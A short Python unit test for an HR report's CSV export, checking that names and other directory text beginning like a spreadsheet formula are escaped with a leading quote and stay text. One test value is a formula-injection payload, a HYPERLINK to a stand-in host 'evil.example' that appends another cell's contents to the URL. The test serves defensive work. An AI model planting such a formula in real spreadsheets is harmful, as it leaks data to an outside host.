"""The HR report's CSV files open in a spreadsheet: text from the directory (names, group
names) that starts like a formula is shown as text, never run."""

from __future__ import annotations

import csv
import io

from service.insight.report import _csv


def test_a_name_that_looks_like_a_formula_stays_text() -> None:
    rows = [{"manager": '=HYPERLINK("https://evil.example/?leak="&C2,"Click")',
             "report": "@SUM(1+1)", "why": "+1 555 0100", "cadence_days": 14},
            {"manager": "-2+3", "report": "\tTab", "why": "Ana Lopez", "cadence_days": -1},
            {"manager": None, "report": "\rCR", "why": "", "cadence_days": 0.5}]
    text = _csv(rows, ("manager", "report", "why", "cadence_days"))
    got = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["manager"] for r in got] == [
        '\'=HYPERLINK("https://evil.example/?leak="&C2,"Click")', "'-2+3", ""]
    assert [r["report"] for r in got] == ["'@SUM(1+1)", "'\tTab", "'\rCR"]
    assert [r["why"] for r in got] == ["'+1 555 0100", "Ana Lopez", ""]
    # Numbers are figures, not text: a negative one keeps its sign.
    assert [r["cadence_days"] for r in got] == ["14", "-1", "0.5"]
